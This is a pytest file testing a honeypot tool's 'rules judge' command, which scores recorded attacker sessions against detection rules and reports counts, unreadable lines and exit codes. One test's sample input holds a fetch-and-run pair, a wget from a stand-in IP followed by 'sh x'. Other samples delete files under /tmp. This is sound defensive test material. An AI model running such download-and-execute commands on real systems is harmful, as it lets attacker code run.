"""``rules judge`` on files and on the stored history: what is read, what is told, exit codes."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from typer.testing import CliRunner

from decnet.db.repository import BaseRepository
from decnet_tui.cli import judging
from decnet_tui.cli.main import app
from tests.dbkit import migrated
from tests.unit.test_judge import PLUM, rule
from tests.unit.test_order_of_lines import START, rich
from tests.unit.test_stored_sessions import record


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    place = tmp_path / "rules"
    place.mkdir()
    rule(place, "R5001", PLUM)
    rule(place, "R5002", "{pattern: quince}")
    return place


def run(rules: Path, *arguments: str | Path, stdin: bytes = b"") -> Result:
    said = ["rules", "judge", *map(str, arguments), "--rules", str(rules), "--data-dir", str(rules.parent)]
    return CliRunner().invoke(app, said, input=stdin)


def report(rules: Path, *arguments: str | Path, stdin: bytes = b"") -> dict[str, Any]:
    found: dict[str, Any] = json.loads(run(rules, *arguments, "--json", stdin=stdin).stdout)
    return found


def sessions(path: Path, *said: Any) -> Path:
    path.write_text("".join(json.dumps(one) + "\n" for one in said), "utf-8")
    return path


def test_a_file_of_sessions_is_judged_with_sources_and_counts(rules: Path, tmp_path: Path) -> None:
    told = sessions(
        tmp_path / "hive.jsonl",
        {"session": "x1", "commands": ["plum", "rm /tmp/a"], "source": "north", "count": 9},
        {"commands": ["rm /tmp/b"], "sensor": "south"},
        {"session": 3, "commands": ["plum"]},
    )
    found = report(rules, told)
    assert found["sources"] == {"north": 9, "south": 1, "hive.jsonl": 1}
    totals = found["totals"]
    assert (totals["sessions_read"], totals["sessions"], totals["sessions_untagged"]) == (3, 11, 1)
    (kind,) = found["untagged_kinds"]
    assert (kind["kind"], kind["seen"], kind["session"], kind["line"]) == ("rm PATH", 10, "x1", 2)
    assert [row["session"] for row in found["untagged_lines"]] == ["x1", "line 2"]


def test_plain_lines_are_commands_each_by_itself(rules: Path) -> None:
    found = report(rules, "-", stdin=b"plum\nwget http://203.0.113.9/x\nsh x\n\n{ ls; }\n")
    assert found["totals"]["sessions"] == 5
    assert found["sources"] == {"stdin": 5}
    assert [row["knows"] for row in found["untagged_kinds"] if row["kind"] == "sh NAME"] == [["exec.tried_dirs", "exec.via"]]  # fmt: skip


def test_lines_that_are_no_session_are_named_and_the_rest_is_judged(rules: Path, tmp_path: Path) -> None:
    path = tmp_path / "bad.jsonl"
    path.write_bytes(
        b'{"commands": ["plum"]}\n{"commands": [\n[1]\n\n{"commands": 3}\n{"commands": ["a"], "count": 0}\n'
        b'{"commands": ["a"], "count": true}\n'
        + b"[" * 100_000
        + b'\n{"commands": ["plum \xff\\u0000"]}\n{"commands": [4]}\n'
    )
    done = run(rules, path, "--json")
    found = json.loads(done.stdout)
    assert done.exit_code == 1
    assert found["totals"]["sessions_tagged"] == 2
    assert [row["line"] for row in found["unreadable"]] == [2, 3, 5, 6, 7, 8, 10]
    assert found["unreadable"][1] == {
        "source": "bad.jsonl",
        "line": 3,
        "reason": 'a session is an object with a list of "commands"',
    }
    assert "error: 7 sessions could not be read and are not in these figures" in done.stderr
    assert "bad.jsonl: line 6: no session: count is a whole number from 1 to 1000000000" in done.stderr


def test_a_line_that_is_too_long_is_passed_over_to_its_end(
    rules: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(judging, "MAX_LINE_BYTES", 40)
    fits = '{"commands": ["plum 123456789012345"]}'
    path = tmp_path / "long.jsonl"
    path.write_text(f"{fits:<39}\n{fits:<40}\n{fits:<120}\n{fits}\n", "utf-8")
    found = report(rules, path)
    assert found["totals"]["sessions"] == 2
    assert [(row["line"], row["reason"]) for row in found["unreadable"]] == [
        (2, "longer than 40 bytes"),
        (3, "longer than 40 bytes"),
    ]


def test_several_files_are_several_sources(rules: Path, tmp_path: Path) -> None:
    first = sessions(tmp_path / "a.jsonl", {"commands": ["plum"]})
    second = sessions(tmp_path / "b.jsonl", {"commands": ["fig"]})
    assert report(rules, first)["one_source"] is None
    (row,) = report(rules, first, second)["one_source"]
    assert (row["rule_id"], row["source"]) == ("R5001", "a.jsonl")


def test_the_text_says_what_to_look_at_and_hides_nothing(rules: Path, tmp_path: Path) -> None:
    told = sessions(
        tmp_path / "a.jsonl",
        *({"session": f"s{n}", "commands": ["plum", f"fig\x1b[2J -{'x' * n}"]} for n in range(1, 4)),
    )
    text = run(rules, told, "--limit", "2").stdout
    assert "\x1b" not in text
    assert "sessions  3: 3 tagged (100%), 0 not" in text
    assert "lines     6: 3 tagged (50%), 3 not" in text
    assert "untagged kinds (2 of 3)" in text
    assert "untagged lines (2 of 3)" in text
    assert "never fired (0 of 1)" in text
    assert "cannot be told of one source" in text
    assert "overlap: none" in text
    assert len([line for line in text.splitlines() if line.startswith("R5001")]) == 1  # what it costs
    whole = run(rules, told, "--limit", "0").stdout
    assert "untagged kinds (3)" in whole


def test_nothing_to_judge_is_said(rules: Path, tmp_path: Path) -> None:
    (tmp_path / "empty").touch()
    done = run(rules, tmp_path / "empty")
    assert (done.exit_code, done.stdout[:11]) == (0, "no sessions")


def test_a_file_of_other_objects_is_no_file_of_sessions(rules: Path, tmp_path: Path) -> None:
    done = run(rules, sessions(tmp_path / "a", {"command": "plum"}))
    assert done.exit_code == 1
    assert done.stdout.startswith("none of it could be read as a session")
    assert 'a: line 1: no session: a session is an object with a list of "commands"' in done.stderr


def test_what_cannot_be_read_at_all_is_one_line(rules: Path, tmp_path: Path) -> None:
    for arguments, code, words in (
        ([tmp_path / "nowhere"], 1, "nowhere: cannot be read: No such file"),
        ([tmp_path], 1, "cannot be read: Is a directory"),
        ([], 1, "no database in"),
        (["x", "--since", "7d"], 2, "--since is for the stored history"),
    ):
        done = run(rules, *arguments)
        assert done.exit_code == code
        assert words in done.stderr
    empty = tmp_path / "none"
    empty.mkdir()
    assert "nothing is judged" in run(empty, "-").stderr


def test_the_stored_history_is_judged_by_decoy(rules: Path, tmp_path: Path) -> None:
    async def fill() -> None:
        repo = await BaseRepository.open(await migrated(tmp_path / "decnet.sqlite"))
        await record(repo, rich("s", START))
        await repo.close()

    asyncio.run(fill())
    rule(rules, "R5003", "{pattern: '.'}")
    found = report(rules)
    totals = found["totals"]
    assert (totals["sessions_read"], totals["sessions_tagged"]) == (1, 1)
    assert totals["lines_tagged"] == totals["lines"] > 0
    assert found["sources"] == {"pot": 1}
    assert report(rules, "--since", "1s")["totals"]["sessions_read"] == 0
